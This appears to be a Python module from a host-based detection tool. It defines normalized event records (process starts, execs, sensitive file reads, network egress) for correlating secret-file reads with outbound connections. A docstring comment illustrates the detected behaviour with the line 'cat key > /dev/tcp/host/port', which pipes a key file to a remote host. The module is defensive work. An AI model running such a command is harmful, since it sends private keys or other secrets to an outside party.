"""Normalized events: what every source (osquery event tables, results logs,
fanotify + sock_diag) turns its raw data into before correlation.

Times are Unix seconds as floats. osquery's ``time`` column is when osquery
stored the event batch (whole seconds), not the kernel timestamp, so two
events of one second have no order between them; native sources carry
sub-millisecond times. ``start`` is the process start in clock ticks since
boot where a source knows it (native sources, /proc), else ``None`` (osquery
event tables carry no start time).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Union

#: auid of a process with no login session (audit's "unset", (uid_t)-1).
AUID_UNSET = 4294967295


@dataclass(frozen=True)
class Proc:
    """The process an event is about, as far as the source knows it."""

    pid: int
    ppid: Optional[int] = None
    executable: str = ""
    start: Optional[int] = None
    uid: Optional[int] = None
    auid: Optional[int] = None
    cmdline: Optional[str] = None
    pgid: Optional[int] = None
    sid: Optional[int] = None
    #: Inodes of the pipes on fd 0 and fd 1 when they are pipes (native sources read
    #: them from /proc/PID/fd; osquery rows carry none): a reader whose stdout pipe
    #: is a sender's stdin pipe, directly or through other members, is one pipeline.
    stdin_pipe: Optional[int] = None
    stdout_pipe: Optional[int] = None


@dataclass(frozen=True)
class SensitiveRead:
    """A process opened or read a file (not yet matched against the catalogue)."""

    host: str
    time: float
    proc: Proc
    path: str
    source: str
    size: Optional[int] = None  # file size in bytes where the source knows it
    #: (socket cookie, bytes sent so far) of sockets on the reader's fd 0/1 at the
    #: read (native: read while fanotify held the opener), e.g. ``cat key >
    #: /dev/tcp/host/port``; the bytes are None where the socket keeps no counters.
    std_sockets: tuple[tuple[int, Optional[int]], ...] = ()


@dataclass(frozen=True)
class Egress:
    """A process started an outbound connection, or moved bytes on an existing one.

    ``kind`` is ``connect`` (a new connection, e.g. socket_events action
    connect) or ``transfer`` (bytes sent after a read on a socket that existed
    before it; ``bytes_sent`` then says how many).
    """

    host: str
    time: float
    proc: Proc
    remote_address: str
    remote_port: int
    source: str
    protocol: str = "tcp"
    kind: str = "connect"
    bytes_sent: Optional[int] = None
    cookie: Optional[int] = None


@dataclass(frozen=True)
class ProcessStart:
    """fork/vfork/clone: ``proc.pid`` is the new child, ``proc.ppid`` its parent."""

    host: str
    time: float
    proc: Proc
    source: str


@dataclass(frozen=True)
class Exec:
    """execve/execveat: the same process (same pid) runs a new image."""

    host: str
    time: float
    proc: Proc
    source: str


Event = Union[ProcessStart, Exec, SensitiveRead, Egress]

#: At equal times, process events come first, then reads, then egress, so a
#: read and a connect logged in the same osquery second still chain.
EVENT_ORDER = {ProcessStart: 0, Exec: 1, SensitiveRead: 2, Egress: 3}


def sort_key(e: Event) -> tuple[float, int]:
    return (e.time, EVENT_ORDER[type(e)])
